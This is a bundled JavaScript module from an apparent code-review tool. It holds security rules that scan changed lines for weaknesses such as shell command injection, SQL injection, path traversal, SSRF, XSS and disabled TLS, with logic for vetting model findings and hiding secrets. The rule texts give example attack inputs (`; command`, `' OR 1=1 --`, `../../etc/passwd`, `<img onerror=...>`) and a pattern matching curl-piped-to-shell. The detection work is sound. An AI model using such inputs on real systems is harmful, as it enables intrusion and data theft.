export const id = 297;
export const ids = [297];
export const modules = {

/***/ 30297:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

// ESM COMPAT FLAG
__webpack_require__.r(__webpack_exports__);

// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  command: () => (/* binding */ command)
});

// EXTERNAL MODULE: ./build/src/core/errors.js
var errors = __webpack_require__(43026);
// EXTERNAL MODULE: ./build/src/run/task-options.js
var task_options = __webpack_require__(3437);
// EXTERNAL MODULE: ./build/src/core/diff/filter-files.js
var filter_files = __webpack_require__(56681);
// EXTERNAL MODULE: ./build/src/core/findings/count-findings.js
var count_findings = __webpack_require__(34302);
// EXTERNAL MODULE: ./build/src/core/findings/plan-review.js
var plan_review = __webpack_require__(85374);
// EXTERNAL MODULE: ./build/src/core/secrets/find-secrets.js + 2 modules
var find_secrets = __webpack_require__(32477);
// EXTERNAL MODULE: ./build/src/core/secrets/mask-secrets.js
var mask_secrets = __webpack_require__(51379);
// EXTERNAL MODULE: ./build/src/core/diff/diff.js
var diff = __webpack_require__(45774);
;// CONCATENATED MODULE: ./build/src/core/security/hunk-reveals.js

/**
 * Whether GitHub, which repeats the hunk above a comment on these lines (on the page and in its e-mails), would repeat a
 * secret: a line of the change, up to the comment's, that is not what it is in the redacted form.
 */
const hunkReveals = ({ original, redacted }, { side, endLine }) => (redacted?.hunks ?? []).some((hunk, hunkIndex) => {
    const last = hunk.lines.findLastIndex(line => (0,diff/* lineNumber */.e)(line, side) === endLine);
    const before = original?.hunks[hunkIndex]?.lines ?? [];
    return hunk.lines.slice(0, last + 1).some((line, index) => line.text !== before[index]?.text);
});

// EXTERNAL MODULE: ./build/src/core/findings/anchor.js
var findings_anchor = __webpack_require__(4167);
// EXTERNAL MODULE: ./build/src/core/findings/match-quote.js
var match_quote = __webpack_require__(41964);
;// CONCATENATED MODULE: ./build/src/core/security/keep-proven.js


/** Of what the model found: only what quotes code that is there, and is not a candidate once more. */
const keepProven = (findings, { files, candidates, texts, }) => {
    const proven = [];
    const dropped = [];
    for (const [index, finding] of findings.entries()) {
        const reason = flaw(finding, files, texts, candidates);
        if (reason === null)
            proven.push({ ...finding, category: 'security' });
        else
            dropped.push({ index, reason });
    }
    return { proven, dropped };
};
const flaw = (finding, files, texts, candidates) => {
    if ((0,match_quote/* quoteLines */.C)(finding.quote).length === 0)
        return 'it quotes no code';
    const file = (0,findings_anchor/* findFile */.q)(finding.path, files);
    const anchor = file && (0,findings_anchor/* findAnchor */.t)(finding, file);
    if (!anchor) {
        const text = texts.get(file?.path ?? finding.path);
        return text !== undefined && squeeze(text).includes(squeeze(finding.quote)) ? null : 'the quoted code is not there';
    }
    const same = candidates.some(({ path, cwe, startLine }) => path === file.path &&
        cwe === finding.cwe &&
        startLine !== null &&
        startLine >= anchor.startLine &&
        startLine <= anchor.endLine);
    return same ? 'a rule has found it already' : null;
};
const squeeze = (text) => text.replace(/\s+/g, ' ').trim();

// EXTERNAL MODULE: ./build/src/core/security/redact-leaks.js + 3 modules
var redact_leaks = __webpack_require__(60036);
// EXTERNAL MODULE: ./build/src/core/findings/finding.js
var findings_finding = __webpack_require__(46013);
// EXTERNAL MODULE: ./build/src/core/security/language.js
var security_language = __webpack_require__(93736);
;// CONCATENATED MODULE: ./build/src/core/security/risk-rule.js
/** What the same weakness is in every language. */
const kinds = {
    command: {
        cwe: 'CWE-78',
        severity: 'high',
        confidence: 0.7,
        title: 'A shell command is put together from values',
        exploit: 'Whoever controls one of the values adds `; command` or `$(command)`, which runs with the rights of the program.',
        fix: 'Call the program without a shell, its arguments as a list; check values that begin with a dash.',
    },
    eval: {
        cwe: 'CWE-95',
        severity: 'high',
        confidence: 0.6,
        title: 'Text is executed as code',
        exploit: 'Whoever controls the text runs code of their own in the program.',
        fix: 'Parse the value as data (JSON, a table of allowed operations) instead of executing it.',
    },
    sql: {
        cwe: 'CWE-89',
        severity: 'high',
        confidence: 0.75,
        title: 'SQL is put together from values',
        exploit: "A value such as `' OR 1=1 --` changes the statement: other people's rows are read, changed or deleted.",
        fix: 'Give the values as parameters beside the statement; take names of columns from a fixed list.',
    },
    path: {
        cwe: 'CWE-22',
        severity: 'high',
        confidence: 0.6,
        title: 'A path comes from the request',
        exploit: 'With `../../etc/passwd` files outside the intended folder are reached.',
        fix: 'Resolve the path and check that it lies in the folder, or look the file up by an id.',
    },
    ssrf: {
        cwe: 'CWE-918',
        severity: 'high',
        confidence: 0.6,
        title: 'The server fetches an address from the request',
        exploit: 'The request names an internal address (metadata service, admin interface), and the server fetches it with its own rights.',
        fix: 'Allow hosts by list, refuse private addresses after resolving, and follow no redirects.',
    },
    redirect: {
        cwe: 'CWE-601',
        severity: 'medium',
        confidence: 0.6,
        title: 'A redirect follows an address from the request',
        exploit: 'A link to this site leads to an imitation of it that asks for the password.',
        fix: 'Redirect to paths of this site only, or to a fixed list of addresses.',
    },
    deserialise: {
        cwe: 'CWE-502',
        severity: 'high',
        confidence: 0.6,
        title: 'Objects are read from serialised data that can run code',
        exploit: 'Crafted data makes the reader build objects that run commands while they are read.',
        fix: 'Read plain data (JSON with a schema, a safe loader) instead.',
    },
    xss: {
        cwe: 'CWE-79',
        severity: 'medium',
        confidence: 0.5,
        title: 'Text becomes HTML without being escaped',
        exploit: "A value with `<img onerror=...>` runs script in other people's browsers with their session.",
        fix: 'Set it as text, use the escaping of the template, or clean it with a maintained sanitiser.',
    },
    xxe: {
        cwe: 'CWE-611',
        severity: 'medium',
        confidence: 0.45,
        title: 'An XML parser may resolve external entities',
        exploit: 'A document with an external entity reads files of the server or calls internal addresses.',
        fix: 'Turn DTDs and external entities off before parsing.',
    },
    hash: {
        cwe: 'CWE-328',
        severity: 'medium',
        confidence: 0.5,
        title: 'A broken hash function',
        exploit: 'Where it protects a password or proves who wrote something, collisions and fast guessing defeat it.',
        fix: 'Use SHA-256 or better; for passwords argon2, scrypt or bcrypt.',
    },
    cipher: {
        cwe: 'CWE-327',
        severity: 'high',
        confidence: 0.7,
        title: 'A broken cipher or mode',
        exploit: 'The text can be recovered, or repeated blocks of it recognised and moved.',
        fix: 'Use AES-GCM or ChaCha20-Poly1305 with a fresh nonce for each message.',
    },
    random: {
        cwe: 'CWE-338',
        severity: 'high',
        confidence: 0.6,
        title: 'A secret comes from a random generator that can be predicted',
        exploit: 'From a few values an attacker computes the next, and with it the token of somebody else.',
        fix: "Use the platform's cryptographic generator.",
    },
    tls: {
        cwe: 'CWE-295',
        severity: 'high',
        confidence: 0.8,
        title: 'Certificates are not verified',
        exploit: 'Anyone on the way reads and changes the traffic, keys and answers included.',
        fix: 'Leave verification on; trust a private authority by adding its certificate.',
    },
    jwt: {
        cwe: 'CWE-347',
        severity: 'high',
        confidence: 0.75,
        title: 'Signatures of tokens are not checked',
        exploit: 'An attacker writes a token with any name and rights, and it is taken for genuine.',
        fix: 'Verify with a fixed list of algorithms that does not hold `none`.',
    },
};
/** A rule of a kind; what it says of itself goes before. */
const riskRule = (id, languages, kind, own) => ({
    ...kind,
    id,
    languages,
    ...own,
});

;// CONCATENATED MODULE: ./build/src/core/security/rules/compiled.js

const jvm = ['jvm'];
const go = ['go'];
const dotnet = ['dotnet'];
const compiled_native = ['native'];
/** Java and its kin, Go, .NET, C, C++ and Rust. */
const compiledRules = [
    riskRule('java-command-injection', jvm, kinds.command, {
        pattern: /\bgetRuntime\s*\(\s*\)\s*\.exec\s*\([^;]*\+|\bnew\s+ProcessBuilder\s*\(\s*"(?:sh|bash|cmd)[^;]*\+/,
    }),
    riskRule('java-sql-concat', jvm, kinds.sql, {
        pattern: /\.(?:executeQuery|executeUpdate|execute|prepareStatement|createQuery|createNativeQuery|queryForObject|queryForList)\s*\(\s*(?:"[^"]*"\s*\+|"[^"]*\$\{?\w)/,
    }),
    riskRule('java-deserialise', jvm, kinds.deserialise, {
        pattern: /\bnew\s+ObjectInputStream\s*\(|\bnew\s+XMLDecoder\s*\(|\benableDefaultTyping\s*\(/,
    }),
    riskRule('java-xxe', jvm, kinds.xxe, {
        pattern: /\b(?:DocumentBuilderFactory|SAXParserFactory|XMLInputFactory|SAXReader)\.newInstance\s*\(|\bnew\s+SAXReader\s*\(/,
    }),
    riskRule('java-weak-hash', jvm, kinds.hash, { pattern: /\bMessageDigest\.getInstance\s*\(\s*"(?:MD[245]|SHA-?1)"/i }),
    riskRule('java-weak-cipher', jvm, kinds.cipher, {
        pattern: /\bCipher\.getInstance\s*\(\s*"(?:DES|DESede|RC[24]|Blowfish|AES"|[A-Z]+\/ECB)/i,
    }),
    riskRule('java-insecure-random', jvm, kinds.random, {
        pattern: /(?:token|secret|passw|otp|nonce|salt|session_?id|api_?key)\w*\s*=(?!=)[^;]*(?:\bnew\s+Random\s*\(|\bMath\.random\s*\()/i,
    }),
    riskRule('java-tls-off', jvm, kinds.tls, {
        pattern: /\bALLOW_ALL_HOSTNAME_VERIFIER\b|\bNoopHostnameVerifier\b|\bcheckServerTrusted\s*\([^)]*\)\s*(?:throws\s+\w+\s*)?\{\s*\}/,
    }),
    riskRule('go-command-injection', go, kinds.command, {
        pattern: /\bexec\.Command(?:Context)?\s*\([^;]*"(?:sh|bash|cmd|powershell)"[^;]*(?:\+|Sprintf)/,
    }),
    riskRule('go-sql-concat', go, kinds.sql, {
        pattern: /\.(?:Query|QueryRow|Exec|Prepare)(?:Context)?\s*\([^;]*(?:fmt\.Sprintf\s*\(\s*[`"]\s*(?:select|insert|update|delete)|[`"]\s*(?:select|insert|update|delete)\b[^`"]*[`"]\s*\+)/i,
    }),
    riskRule('go-path-traversal', go, kinds.path, {
        pattern: /\b(?:os\.(?:Open|ReadFile|Create|Remove)|http\.ServeFile|ioutil\.ReadFile)\s*\([^;]*\br\.(?:URL|FormValue|Form|PathValue|Header)\b/,
    }),
    riskRule('go-tls-off', go, kinds.tls, { pattern: /\bInsecureSkipVerify\s*[:=]\s*true\b/ }),
    riskRule('go-weak-hash', go, kinds.hash, { pattern: /\b(?:md5|sha1)\.(?:New|Sum)\b/ }),
    riskRule('go-insecure-random', go, kinds.random, {
        pattern: /(?:token|secret|passw|otp|nonce|salt|sessionId|apiKey)\w*\s*:?=(?!=).*\brand\.(?:Int|Intn|Int63|Uint32|Float64)\s*\(/i,
    }),
    riskRule('go-unescaped-template', go, kinds.xss, { pattern: /\btemplate\.(?:HTML|JS|URL)\s*\(\s*(?!["`])/ }),
    riskRule('cs-sql-concat', dotnet, kinds.sql, {
        pattern: /\bnew\s+\w*SqlCommand\s*\(\s*(?:\$@?"|@?"[^"]*"\s*\+)|\b(?:FromSqlRaw|ExecuteSqlRaw(?:Async)?)\s*\(\s*(?:\$"|"[^"]*"\s*\+)/,
    }),
    riskRule('cs-deserialise', dotnet, kinds.deserialise, {
        pattern: /\bnew\s+(?:BinaryFormatter|LosFormatter|NetDataContractSerializer|SoapFormatter)\s*\(|\bTypeNameHandling\.(?:All|Auto|Objects|Arrays)\b/,
    }),
    riskRule('cs-command-injection', dotnet, kinds.command, { pattern: /\bProcess\.Start\s*\([^;]*(?:\+|\$")/ }),
    riskRule('cs-tls-off', dotnet, kinds.tls, {
        pattern: /CertificateValidationCallback\s*\+?=[^;]*(?:=>\s*true|return\s+true)|\bDangerousAcceptAnyServerCertificateValidator\b/,
    }),
    riskRule('cs-weak-hash', dotnet, kinds.hash, {
        pattern: /\b(?:MD5|SHA1)(?:\.Create\s*\(|CryptoServiceProvider\b|\.HashData\s*\()/,
    }),
    {
        id: 'c-unbounded-copy',
        languages: compiled_native,
        cwe: 'CWE-120',
        severity: 'high',
        confidence: 0.5,
        title: 'A copy without a limit',
        exploit: 'A longer input writes past the end of the buffer, over return addresses or neighbouring data.',
        fix: 'Use the bounded form (`snprintf`, `strlcpy`, `fgets`) with the size of the destination.',
        pattern: /(?<![.\w:>])(?:gets|strcpy|strcat|sprintf|vsprintf)\s*\(/,
    },
    riskRule('c-command-injection', compiled_native, kinds.command, {
        pattern: /(?<![.\w:>])(?:system|popen)\s*\(\s*(?!")[A-Za-z_]/,
    }),
    {
        id: 'c-format-string',
        languages: compiled_native,
        cwe: 'CWE-134',
        severity: 'high',
        confidence: 0.6,
        title: 'A format string that is not fixed',
        exploit: 'With `%n` and `%x` in the value an attacker writes and reads memory.',
        fix: 'Print it with `printf("%s", value)`.',
        pattern: /(?<![.\w:>])printf\s*\(\s*[A-Za-z_]\w*\s*\)|(?<![.\w:>])fprintf\s*\(\s*\w+\s*,\s*[A-Za-z_]\w*\s*\)/,
    },
    riskRule('rs-tls-off', compiled_native, kinds.tls, { pattern: /\bdanger_accept_invalid_(?:certs|hostnames)\s*\(\s*true/ }),
];

;// CONCATENATED MODULE: ./build/src/core/security/rules/infrastructure.js
const terraform = ['terraform'];
const yaml = ['yaml'];
const terraformRows = [
    {
        id: 'tf-open-to-world',
        ...{ cwe: 'CWE-284', severity: 'medium', confidence: 0.5, title: 'Open to the whole internet' },
        exploit: 'Everyone reaches the port, scanners within minutes; if it is ingress, every flaw behind it is exposed.',
        fix: 'Name the networks that need it.',
        pattern: /\b(?:cidr_blocks|source_ranges|source_address_prefix(?:es)?|ipv6_cidr_blocks)\s*=\s*\[?[^\]]*"(?:0\.0\.0\.0\/0|::\/0|\*)"/,
    },
    {
        id: 'tf-public-storage',
        ...{ cwe: 'CWE-732', severity: 'high', confidence: 0.8, title: 'Storage that everyone may read' },
        exploit: 'Whoever guesses the name downloads everything in it.',
        fix: 'Keep it private and hand out signed addresses.',
        pattern: /\bacl\s*=\s*"public-read(?:-write)?"|\b(?:block_public_acls|block_public_policy|restrict_public_buckets)\s*=\s*false/,
    },
    {
        id: 'tf-public-database',
        ...{ cwe: 'CWE-284', severity: 'high', confidence: 0.8, title: 'A database with a public address' },
        exploit: 'It can be reached, and its passwords tried, from everywhere.',
        fix: 'Put it into a private network.',
        pattern: /\bpublicly_accessible\s*=\s*true\b/,
    },
    {
        id: 'tf-unencrypted',
        ...{ cwe: 'CWE-311', severity: 'medium', confidence: 0.7, title: 'Encryption is turned off' },
        exploit: 'Whoever gets at a disk, snapshot or backup reads it.',
        fix: 'Turn encryption at rest on.',
        pattern: /\b(?:encrypted|storage_encrypted|at_rest_encryption_enabled|encrypt_at_rest)\s*=\s*false\b/,
    },
    {
        id: 'tf-all-actions',
        ...{ cwe: 'CWE-269', severity: 'high', confidence: 0.7, title: 'A policy that allows everything' },
        exploit: 'Who gets hold of this role owns the account.',
        fix: 'List the actions and resources that are needed.',
        pattern: /\b(?:actions|Action)"?\s*[=:]\s*\[?\s*"\*"/,
    },
];
const yamlRows = [
    {
        id: 'k8s-privileged',
        ...{ cwe: 'CWE-250', severity: 'high', confidence: 0.8, title: 'A container with the rights of its host' },
        exploit: 'Who breaks into the container has the machine.',
        fix: 'Leave it off and add the single capability that is needed.',
        pattern: /^\s*-?\s*"?privileged"?\s*:\s*true\b/,
    },
    {
        id: 'k8s-host-namespace',
        ...{ cwe: 'CWE-250', severity: 'medium', confidence: 0.7, title: 'A pod in a namespace of its host' },
        exploit: "It sees, and reaches, the host's processes or network and those of other pods.",
        fix: 'Leave it off.',
        pattern: /^\s*-?\s*"?host(?:Network|PID|IPC)"?\s*:\s*true\b/,
    },
    {
        id: 'k8s-root',
        ...{ cwe: 'CWE-250', severity: 'medium', confidence: 0.6, title: 'A container that may be, or become, root' },
        exploit: 'A flaw of the program gives root in the container, one step from the host.',
        fix: 'Set `runAsNonRoot: true` and `allowPrivilegeEscalation: false`.',
        pattern: /^\s*-?\s*"?(?:allowPrivilegeEscalation"?\s*:\s*true|runAsNonRoot"?\s*:\s*false|runAsUser"?\s*:\s*0)\b/,
    },
    {
        id: 'docker-socket',
        ...{ cwe: 'CWE-250', severity: 'high', confidence: 0.75, title: "The container engine's socket is handed in" },
        exploit: 'Who can write to it starts a container with the whole disk of the host.',
        fix: 'Leave it out, or put a proxy before it that allows the calls that are needed.',
        pattern: /\/var\/run\/docker\.sock\b/,
    },
];
/** Terraform, Kubernetes and Compose. */
const infrastructureRules = [
    ...terraformRows.map(row => ({ ...row, languages: terraform })),
    ...yamlRows.map(row => ({ ...row, languages: yaml })),
    {
        id: 'cors-any-origin',
        languages: ['javascript', 'python', 'jvm', 'go', 'ruby', 'php', 'dotnet', 'yaml'],
        cwe: 'CWE-942',
        severity: 'medium',
        confidence: 0.5,
        title: 'Every site may read the answers',
        exploit: 'A page of the attacker, open in the browser of a user, reads what the user may read.',
        fix: 'Name the origins that need it; never together with credentials.',
        pattern: /Access-Control-Allow-Origin["']?\s*[,:=]\s*["']?\*|\bcors\s*\(\s*\{[^}]*\borigin\s*:\s*(?:["']\*["']|true)|\ballow_origins\s*=\s*\[\s*["']\*["']|\bAllowAnyOrigin\s*\(|@CrossOrigin\s*\(\s*(?:origins\s*=\s*)?"\*"/,
    },
];

;// CONCATENATED MODULE: ./build/src/core/security/rules/javascript.js

const js = ['javascript'];
const request = 'req(?:uest)?\\.(?:params|query|body|headers|cookies|url)\\b';
const literalOnly = `(?!\\s*(?:"[^"]*"|'[^']*'|\`[^\`$]*\`)\\s*[;,)]?\\s*$)`;
const javascriptRules = [
    riskRule('js-command-injection', js, kinds.command, {
        pattern: /(?<![.\w])(?:child_process\.|cp\.)?exec(?:Sync)?\s*\(\s*(?:`[^`]*\$\{|(["'])(?:(?!\1).)*\1\s*\+|\w+\s*\+)/,
    }),
    riskRule('js-shell-option', js, kinds.command, {
        pattern: /\bshell\s*:\s*true\b/,
        severity: 'medium',
        confidence: 0.5,
        title: 'A process is started through a shell',
    }),
    riskRule('js-eval', js, kinds.eval, {
        pattern: /(?<![.\w$])(?:eval|new\s+Function|vm\.runIn\w+Context)\s*\(\s*(?!\s*\)|(["'])(?:(?!\1).)*\1\s*[,)])/,
    }),
    riskRule('js-sql-concat', js, kinds.sql, {
        pattern: /\b(?:query|execute|raw|\$queryRawUnsafe|\$executeRawUnsafe|all|run|prepare)\s*(?:<[\w.[\], |]{1,80}>)?\s*\(\s*(?:`\s*(?:select|insert|update|delete|with)\b[^`]*\$\{|(["'])\s*(?:select|insert|update|delete|with)\b(?:(?!\1).)*\1\s*\+)/i,
    }),
    riskRule('js-nosql-where', js, kinds.sql, {
        pattern: /["']?\$where["']?\s*:\s*(?:`[^`]*\$\{|.*\+)/,
        cwe: 'CWE-943',
        title: 'A database query runs JavaScript put together from values',
    }),
    riskRule('js-path-traversal', js, kinds.path, {
        pattern: new RegExp(`\\b(?:readFile|readFileSync|createReadStream|writeFile|writeFileSync|sendFile|download|unlink|unlinkSync|readdir|rm)\\s*\\([^;]*\\b${request}`),
        unless: /\broot\s*:|basename\s*\(/,
    }),
    riskRule('js-ssrf', js, kinds.ssrf, {
        pattern: new RegExp(`(?<![.\\w])(?:fetch|axios(?:\\.\\w+)?|got(?:\\.\\w+)?|https?\\.(?:get|request))\\s*\\(\\s*[^,;]*\\b${request}`),
    }),
    riskRule('js-open-redirect', js, kinds.redirect, {
        pattern: new RegExp(`\\.redirect\\s*\\([^;]*\\b${request}`),
    }),
    riskRule('js-html-sink', js, kinds.xss, {
        pattern: new RegExp(`\\.(?:innerHTML|outerHTML)\\s*\\+?=(?!=)${literalOnly}|\\bdangerouslySetInnerHTML\\s*=|\\bv-html\\s*=|\\bdocument\\.write(?:ln)?\\s*\\(${literalOnly}|\\.insertAdjacentHTML\\s*\\(\\s*["']\\w+["']\\s*,${literalOnly}`),
        unless: /sanitize|DOMPurify|escapeHtml/i,
    }),
    riskRule('js-unserialize', js, kinds.deserialise, { pattern: /\bunserialize\s*\(/ }),
    riskRule('js-weak-hash', js, kinds.hash, { pattern: /\bcreate(?:Hash|Hmac)\s*\(\s*["'](?:md[245]|sha-?1)["']/i }),
    riskRule('js-weak-cipher', js, kinds.cipher, {
        pattern: /\bcreate(?:C|Dec)ipher(?:iv)?\s*\(\s*["'](?:des|rc[24]|bf|aes-\d+-ecb)|\bcreate(?:C|Dec)ipher\s*\(/i,
    }),
    riskRule('js-insecure-random', js, kinds.random, {
        pattern: /(?:token|secret|passw|otp|nonce|salt|session_?id|api_?key)\w*["']?\s*[:=](?!=)[^;]*\bMath\.random\s*\(/i,
    }),
    riskRule('js-tls-off', js, kinds.tls, {
        pattern: /\brejectUnauthorized["']?\s*:\s*false\b|\bNODE_TLS_REJECT_UNAUTHORIZED["'\]]*\s*[:=]\s*["'`]?0/,
    }),
    riskRule('js-jwt-none', js, kinds.jwt, {
        pattern: /\balgorithms?["']?\s*:\s*\[?[^\]]{0,100}["']none["']|\bignoreSignature\s*:\s*true/i,
    }),
];

;// CONCATENATED MODULE: ./build/src/core/security/rules/python.js

const py = ['python'];
const python_request = 'request\\.(?:args|form|values|json|GET|POST|query_params|path_params|cookies|headers)\\b';
const pythonRules = [
    riskRule('py-command-injection', py, kinds.command, {
        pattern: /\bos\.(?:system|popen)\s*\(\s*(?!["'][^"']*["']\s*\))|\bsubprocess\.\w+\s*\(\s*(?:f["']|["'][^"']*["']\s*(?:%|\+|\.format)|[A-Za-z_]\w*\s*[,+])[^#]*\bshell\s*=\s*True/,
    }),
    riskRule('py-eval', py, kinds.eval, { pattern: /(?<![.\w])(?:eval|exec)\s*\(\s*(?!["']|\))/ }),
    riskRule('py-sql-concat', py, kinds.sql, {
        pattern: /\.(?:execute|executemany|executescript|raw)\s*\(\s*(?:text\s*\(\s*)?(?:[rb]?f("""|"|').*\{|(["']).*\2\s*(?:%\s*[\w({]|\+|\.format\s*\())/,
    }),
    riskRule('py-deserialise', py, kinds.deserialise, {
        pattern: /\b(?:c?[pP]ickle|dill|marshal|jsonpickle)\.(?:loads?|decode|Unpickler)\s*\(|\bshelve\.open\s*\(|\byaml\.(?:load|load_all|unsafe_load)\s*\(/,
        unless: /SafeLoader/,
    }),
    riskRule('py-path-traversal', py, kinds.path, {
        pattern: new RegExp(`\\b(?:open|send_file|Path|os\\.(?:remove|listdir))\\s*\\([^#]*\\b${python_request}`),
        unless: /secure_filename|basename/,
    }),
    riskRule('py-ssrf', py, kinds.ssrf, {
        pattern: new RegExp(`\\b(?:requests|httpx|aiohttp|session)\\.(?:get|post|put|request|head)\\s*\\([^#]*\\b${python_request}|\\burlopen\\s*\\([^#]*\\b${python_request}`),
    }),
    riskRule('py-open-redirect', py, kinds.redirect, {
        pattern: new RegExp(`(?<!\\w)(?:redirect|HttpResponseRedirect)\\s*\\([^#]*\\b${python_request}`),
    }),
    riskRule('py-template-injection', py, kinds.eval, {
        pattern: /\brender_template_string\s*\(\s*(?!["'])|\bTemplate\s*\([^#]*\brequest\./,
        cwe: 'CWE-1336',
        title: 'Text is executed as a template',
    }),
    riskRule('py-mark-safe', py, kinds.xss, { pattern: /\b(?:mark_safe|Markup)\s*\(\s*(?!["'][^"'{%]*["']\s*\))/ }),
    riskRule('py-xxe', py, kinds.xxe, {
        pattern: /\bresolve_entities\s*=\s*True|\bXMLParser\s*\([^#]*no_network\s*=\s*False|feature_external_ges\s*,\s*(?:True|1)/,
        confidence: 0.7,
    }),
    riskRule('py-weak-hash', py, kinds.hash, {
        pattern: /\bhashlib\.(?:md5|sha1)\s*\(|\bhashlib\.new\s*\(\s*["'](?:md5|sha1)["']/,
        unless: /usedforsecurity\s*=\s*False/,
    }),
    riskRule('py-weak-cipher', py, kinds.cipher, { pattern: /\b(?:DES3?|ARC4|Blowfish)\.new\s*\(|\bMODE_ECB\b/ }),
    riskRule('py-insecure-random', py, kinds.random, {
        pattern: /(?:token|secret|passw|otp|nonce|salt|session_?id|api_?key)\w*\s*=(?!=)[^#]*\brandom\.(?:random|randint|randrange|choices?|sample|getrandbits)\s*\(/i,
    }),
    riskRule('py-tls-off', py, kinds.tls, {
        pattern: /\bverify\s*=\s*False\b|\b_create_unverified_context\b|\bCERT_NONE\b|\bcheck_hostname\s*=\s*False/,
    }),
    riskRule('py-jwt-unverified', py, kinds.jwt, {
        pattern: /["']verify_signature["']\s*:\s*False|\bjwt\.decode\s*\([^#]*\bverify\s*=\s*False|\balgorithms\s*=\s*\[[^\]]*["']none["']/i,
    }),
    {
        id: 'py-debug-server',
        languages: py,
        cwe: 'CWE-489',
        severity: 'medium',
        confidence: 0.6,
        title: 'The debug mode of the web server is on',
        exploit: 'Its error page has a console that runs Python for everyone who sees it.',
        fix: 'Turn it on by an environment variable of the developer only.',
        pattern: /\.run\s*\([^#]*\bdebug\s*=\s*True|^\s*DEBUG\s*=\s*True\b/,
    },
];

;// CONCATENATED MODULE: ./build/src/core/security/rules/scripting.js

const ruby = ['ruby'];
const php = ['php'];
const shell = ['shell', 'docker', 'workflow'];
const foreign = '\\$_(?:GET|POST|REQUEST|COOKIE)\\b';
/** Ruby, PHP and shells. */
const scriptingRules = [
    riskRule('rb-command-injection', ruby, kinds.command, {
        pattern: /(?<![.\w])(?:system|exec|spawn)\s*\(?\s*"[^"]*#\{|`[^`]*#\{[^`]*`|%x[({[][^)}\]]*#\{|\bOpen3\.\w+\s*\(?\s*"[^"]*#\{/,
    }),
    riskRule('rb-eval', ruby, kinds.eval, {
        pattern: /(?<![.\w])(?:eval|instance_eval|class_eval)\s*\(?\s*(?:params|request|"[^"]*#\{)|\bparams\[[^\]]+\]\.constantize|\.(?:public_)?send\s*\(?\s*params/,
    }),
    riskRule('rb-sql-concat', ruby, kinds.sql, {
        pattern: /\.(?:where|find_by_sql|execute|order|pluck|select|having|joins|exec_query)\s*\(?\s*"[^"]*#\{/,
    }),
    riskRule('rb-deserialise', ruby, kinds.deserialise, {
        pattern: /\bMarshal\.(?:load|restore)\b|\bYAML\.(?:unsafe_load|load)\b(?!_)/,
    }),
    riskRule('rb-html-safe', ruby, kinds.xss, { pattern: /\bparams\b.*\.html_safe|\braw\s*\(?\s*(?:params|@\w)|<%==/ }),
    riskRule('rb-open-redirect', ruby, kinds.redirect, { pattern: /\bredirect_to\s*\(?\s*params\b/ }),
    riskRule('rb-tls-off', ruby, kinds.tls, { pattern: /\bVERIFY_NONE\b/ }),
    {
        id: 'rb-mass-assignment',
        languages: ruby,
        cwe: 'CWE-915',
        severity: 'medium',
        confidence: 0.7,
        title: 'Every field of a request may be written',
        exploit: 'A request names fields that its form does not have, such as `admin`, and they are saved.',
        fix: 'List the allowed fields: `params.permit(:name, :mail)`.',
        pattern: /\bparams\b[^#]*\.permit!/,
    },
    riskRule('php-command-injection', php, kinds.command, {
        pattern: /(?<![>:\w])(?:shell_exec|exec|system|passthru|popen|proc_open)\s*\([^;]*\$/,
        unless: /escapeshell(?:arg|cmd)/,
    }),
    riskRule('php-eval', php, kinds.eval, { pattern: /(?<![>:\w])(?:eval|assert|create_function)\s*\([^;]*\$/ }),
    riskRule('php-sql-concat', php, kinds.sql, {
        pattern: /(?:\bmysqli?_query|->(?:query|exec|prepare))\s*\([^;]*(?:"\s*(?:select|insert|update|delete)\b[^"]*\$\w|["']\s*(?:select|insert|update|delete)\b[^;]*["']\s*\.\s*\$)/i,
    }),
    riskRule('php-deserialise', php, kinds.deserialise, {
        pattern: /(?<![>:\w])unserialize\s*\(\s*\$/,
        unless: /allowed_classes['"]?\s*=>\s*false/,
    }),
    riskRule('php-file-inclusion', php, kinds.path, {
        pattern: new RegExp(`\\b(?:include|require)(?:_once)?\\b[^;]*${foreign}|\\b(?:file_get_contents|fopen|readfile)\\s*\\([^;]*${foreign}`),
        cwe: 'CWE-98',
    }),
    riskRule('php-echo-request', php, kinds.xss, {
        pattern: new RegExp(`(?:\\becho\\b|\\bprint\\b|<\\?=)[^;]*${foreign}`),
        unless: /htmlspecialchars|htmlentities|intval|json_encode/,
        severity: 'high',
        confidence: 0.75,
    }),
    riskRule('php-weak-hash', php, kinds.hash, {
        pattern: /(?<![>:\w])(?:md5|sha1)\s*\(\s*\$\w*pass/i,
        severity: 'high',
        title: 'Passwords are hashed with a broken function',
    }),
    riskRule('php-tls-off', php, kinds.tls, { pattern: /\bCURLOPT_SSL_VERIFY(?:PEER|HOST)\s*(?:,|=>)\s*(?:false|0)\b/i }),
    {
        id: 'sh-curl-pipe',
        languages: shell,
        cwe: 'CWE-494',
        severity: 'medium',
        confidence: 0.7,
        title: 'A download is run without being checked',
        exploit: 'Whoever controls the server, its name or the way to it runs commands here; a broken download runs in half.',
        fix: 'Download a fixed version, check its SHA-256, then run it.',
        pattern: /\b(?:curl|wget)\b[^|#]*\|\s*(?:sudo\s+(?:-\w+\s+)*)?(?:\/bin\/)?(?:ba|z|da|k)?sh\b/,
    },
    riskRule('sh-tls-off', shell, kinds.tls, {
        pattern: /\bcurl\b[^#|]*\s(?:-[a-jl-zA-Z]*k[a-zA-Z]*|--insecure)(?:\s|$)|\bwget\b[^#|]*--no-check-certificate|\bhttp\.sslVerify[ =]+false/,
    }),
    riskRule('sh-eval', ['shell'], kinds.eval, {
        pattern: /(?:^|[;&|]\s*)\s*eval\s+["']?[^#]*\$(?:\{?[\w@*]|\()/,
        severity: 'medium',
    }),
    {
        id: 'sh-world-writable',
        languages: shell,
        cwe: 'CWE-732',
        severity: 'medium',
        confidence: 0.6,
        title: 'Everyone may write it',
        exploit: 'Any account of the machine replaces the file and is run, or read, by others.',
        fix: 'Give rights to the user or group that needs them.',
        pattern: /\bchmod\s+(?:-\w+\s+)*(?:0?777|a\+rwx|o\+w)\b/,
    },
];

;// CONCATENATED MODULE: ./build/src/core/security/apply-rules.js







const lineRules = [
    ...javascriptRules,
    ...pythonRules,
    ...compiledRules,
    ...scriptingRules,
    ...infrastructureRules,
];
/** Longer lines are made by tools; patterns would take their time on them. */
const maxLineCharacters = 2_000;
/** Risky calls on the new lines of a file. Each line has one finding a rule. */
const applyRules = (file) => {
    const language = (0,security_language/* languageOf */.eX)(file.path);
    if (language === null || (0,security_language/* isGenerated */.UK)(file.path))
        return [];
